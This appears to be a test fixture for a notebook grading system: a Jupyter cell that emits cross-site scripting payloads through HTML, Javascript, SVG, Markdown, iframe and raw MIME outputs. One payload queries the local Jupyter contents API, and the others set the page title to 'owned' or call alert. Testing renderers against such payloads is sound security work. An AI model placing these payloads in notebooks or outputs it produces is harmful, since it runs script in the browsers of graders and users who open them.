# where: first
# kind: harms
# does: Outputs hold scripts that run in the browser of whoever opens the graded notebook or its feedback.
from IPython.display import HTML, SVG, IFrame, Javascript, Markdown, display

script = "fetch('http://localhost:8888/api/contents').then(answer => document.title = 'owned')"
display(HTML(f"<script>{script}</script><img src=x onerror=\"{script}\">"))
display(Javascript(script))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>'))
display(Markdown(f'<a href="javascript:{script}">marks</a>'))
display(IFrame("data:text/html,<script>parent.document.title='owned'</script>", 1, 1))
display({"text/latex": "$\\href{javascript:alert(1)}{x}$", "text/plain": "</pre><script>alert(1)</script>"}, raw=True)
